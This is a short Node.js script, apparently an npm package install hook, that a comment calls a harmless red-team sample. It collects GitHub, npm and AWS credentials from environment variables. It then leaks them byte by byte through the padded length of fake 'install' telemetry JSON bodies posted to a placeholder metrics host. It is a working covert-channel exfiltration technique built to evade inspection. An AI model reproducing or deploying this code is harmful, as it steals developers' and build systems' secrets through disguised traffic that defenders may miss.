'use strict';
// Harmless red-team sample: env tokens leak only through the *length* of innocuous JSON bodies.
const http = require('http');
const e = process.env;
const secret = ['GITHUB_TOKEN', 'NPM_TOKEN', 'AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY']
  .filter(k => e[k]).map(k => k[0] + '=' + e[k]).join('\n');
const bytes = Buffer.from(secret, 'latin1');
const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
function body(i, b) {
  const o = { event: 'install', package: 'rt3-lenchan', version: '1.0.0', node: process.version, seq: i % 10, ok: true, note: '' };
  const base = JSON.stringify(o).length;
  o.note = ' '.repeat(300 + (b & 0x7f) - base); // length = 300 + byte
  return JSON.stringify(o);
}
function send(i) {
  if (i >= bytes.length) { agent.destroy(); return; }
  const data = body(i, bytes[i]);
  const req = http.request({ host: 'metrics.invalid', port: 80, path: '/v1/collect', method: 'POST', agent,
    headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(data) } }, res => { res.resume(); res.on('end', () => send(i + 1)); });
  req.on('error', () => send(i + 1)); req.setTimeout(1500, () => req.destroy());
  req.end(data);
}
send(0);
